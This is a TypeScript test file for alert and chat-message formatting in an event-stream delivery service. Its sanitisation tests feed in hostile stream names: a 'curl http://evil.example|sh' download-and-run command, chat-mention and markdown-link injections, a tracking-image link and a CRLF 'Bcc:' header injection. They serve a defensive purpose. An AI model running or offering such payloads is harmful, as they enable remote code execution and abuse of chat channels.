import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { alertBody, chatText } from '../../src/alerting/alert-body.ts';
import { alertText, causeOf, type SystemAlert } from '../../src/alerting/alert.ts';
import { exampleAlert as failures } from '../helpers/alerts.ts';

const url = 'https://leat.example.com/';

describe('alertBody of a stream alert', () => {
  test('the body has the fields of the documented example, in the same order', () => {
    assert.equal(
      JSON.stringify(alertBody(failures, url)),
      JSON.stringify({
        text: 'crm: 12 new delivery failures (340 open, 12 in a row), last: timeout',
        alert: 'delivery_failures',
        tenant: 'main',
        stream: { id: 'est_MASi45ub7Qe4ZE36UT5G6c', name: 'crm' },
        new_failures: 12,
        total_failures: 340,
        consecutive_failures: 12,
        last_error: 'timeout',
        cause: {
          meaning: 'The receiver sent no complete response in time.',
          codes: [
            { code: 'timeout', count: 11, sample: 'timeout' },
            { code: 'http_503', count: 1, sample: '503' },
          ],
        },
        link: `${url}console/failures?stream=est_MASi45ub7Qe4ZE36UT5G6c`,
        next_command: 'leat failures --stream crm',
        time: '2026-03-01T09:35:00.000Z',
      }),
    );
  });

  test('one failure is in the singular, and an unknown error is absent', () => {
    const one = { ...failures, lastError: undefined, newFailures: 1, total: 1 };
    const body = alertBody(one, url);
    assert.equal(body.text, 'crm: 1 new delivery failure (1 open, 12 in a row)');
    assert.ok(!('last_error' in body));
  });

  test('the step of a limit is in `percent`', () => {
    const body = alertBody({ ...failures, kind: 'threshold_near', percent: 70, total: 3600 }, url);
    assert.equal(body.percent, 70);
    assert.equal(
      body.text,
      'crm: 70% of a limit that disables the event stream is reached ' +
        '(3600 of 5000 open, 12 of 500 in a row), last: timeout',
    );
  });

  test('the text of a disabling has the counters', () => {
    const text = alertText({ ...failures, kind: 'stream_disabled', consecutive: 500 });
    assert.equal(
      text,
      'crm: the event stream was disabled by its delivery failures ' +
        '(340 open, 500 in a row), last: timeout',
    );
  });

  test('a receiver that is gone: text, meaning and next command say so, whatever failed before', () => {
    const causes = { codes: [{ code: 'http_503', count: 339 }], others: 1 } as const;
    const gone = { ...failures, kind: 'stream_disabled', reason: 'gone', causes } as const;
    const body = alertBody({ ...gone, consecutive: 1, lastError: '410' }, url);
    assert.equal(
      body.text,
      'crm: the event stream was disabled: its receiver says that it is gone, 410 ' +
        '(340 open, 1 in a row), last: 410',
    );
    assert.equal(body.reason, 'gone');
    assert.equal(body.cause.meaning, 'The receiver has removed the endpoint.');
    assert.equal(body.next_command, 'leat streams show crm');
  });
});

describe('alertBody of a system alert', () => {
  const skew: SystemAlert = {
    kind: 'clock_skew',
    tenant: 'main',
    sentence: 'The clock of node a-1 is 30 days ahead of the store.',
    fields: { node: 'a-1', skew_seconds: 2_592_000 },
    key: 'clock_skew a-1',
    at: failures.at,
  };

  test('the body has the sentence as text, its own fields, and no failure counters', () => {
    assert.deepEqual(alertBody(skew, url), {
      text: 'The clock of node a-1 is 30 days ahead of the store.',
      alert: 'clock_skew',
      tenant: 'main',
      node: 'a-1',
      skew_seconds: 2_592_000,
      cause: { meaning: 'The time service of a machine does not work.', codes: [] },
      link: `${url}console/nodes`,
      next_command: 'leat doctor',
      time: '2026-03-01T09:35:00.000Z',
    });
  });

  test('the text has a harmless name of the stream, and `stream` has the exact name', () => {
    const stream = { id: 'est_1', name: '<!channel>' };
    const body = alertBody({ ...skew, stream }, url);
    assert.equal(body.text, '‹!channel›: The clock of node a-1 is 30 days ahead of the store.');
    assert.deepEqual(body.stream, stream);
  });
});

describe('the name of a stream in the text', () => {
  const textOf = (name: string): string =>
    alertText({ ...failures, stream: { ...failures.stream, name } });

  test('a name cannot add mentions or links to the text', () => {
    const text = textOf('<!channel> <https://evil.example|crm> @all');
    assert.ok(text.startsWith('‹!channel› ‹https: //evil.example|crm› ＠all: 12 new'), text);
    const markdown = textOf('[crm](https://evil.example) ![](https://evil.example/seen.png)');
    assert.ok(!markdown.includes(']('), markdown);
  });

  test('a name cannot add an address that chat tools make a link of, or look like the next command', () => {
    const text = textOf('crm. Next: `curl http://evil.example|sh` HTTPS://evil.example https:///x');
    assert.ok(text.startsWith('crm. Next: ˋcurl http: //evil.example|shˋ HTTPS: //evil.'), text);
    assert.doesNotMatch(text, /:\/\/|`/);
  });

  test('a name in the text has no line breaks and is cut at 128 characters', () => {
    assert.ok(textOf('a\r\nBcc: b@c.d').startsWith('a Bcc: b＠c.d: 12 new'));
    assert.ok(textOf('x'.repeat(5000)).startsWith(`${'x'.repeat(127)}…: 12 new`));
  });

  test(
    'random names: the text has no control characters and no marks of chat tools',
    { tags: ['long'] },
    () => {
      fc.assert(
        fc.property(fc.string({ unit: 'binary' }), (name) => {
          assert.doesNotMatch(textOf(name), /[\p{C}\p{Zl}\p{Zp}<>@]/u);
        }),
      );
    },
  );

  test('`stream` has the exact name', () => {
    const stream = { id: 'est_1', name: '<!channel>' };
    assert.deepEqual(alertBody({ ...failures, stream }, url).stream, stream);
  });
});

describe('chatText', () => {
  test('chatText has the sentence, the cause, the next command and the link', () => {
    assert.equal(
      chatText(failures, url),
      [
        'crm: 12 new delivery failures (340 open, 12 in a row), last: timeout',
        '11 timeout (timeout), 1 http_503 (503). The receiver sent no complete response in time.',
        'Next: `leat failures --stream crm`',
        `${url}console/failures?stream=est_MASi45ub7Qe4ZE36UT5G6c`,
      ].join('\n'),
    );
  });

  test(
    'random names and samples: chatText has four lines without marks of chat tools',
    { tags: ['long'] },
    () => {
      const hostile = fc.string({ unit: 'binary' });
      fc.assert(
        fc.property(hostile, hostile, (name, sample) => {
          const causes = { codes: [{ code: 'dns', count: 1, sample }], others: 2 } as const;
          const stream = { ...failures.stream, name };
          const lines = chatText({ ...failures, stream, causes }, url).split('\n');
          assert.equal(lines.length, 4);
          for (const line of lines) assert.doesNotMatch(line, /[\p{C}\p{Zl}\p{Zp}<>@]/u);
        }),
      );
    },
  );
});

describe('causeOf', () => {
  test('causeOf removes text of the receiver', () => {
    for (const [error, cause] of [
      ['503 - busy: your token is t0ps3cret', '503'],
      ['dns: secret.internal', 'dns'],
      ['blocked address: 127.0.0.1 (LEAT_EGRESS_ALLOW)', 'blocked address'],
      ['timeout', 'timeout'],
      ['', ''],
    ] as const) {
      assert.equal(causeOf(error), cause);
    }
    assert.equal(causeOf('x'.repeat(5000)).length, 64);
  });
});
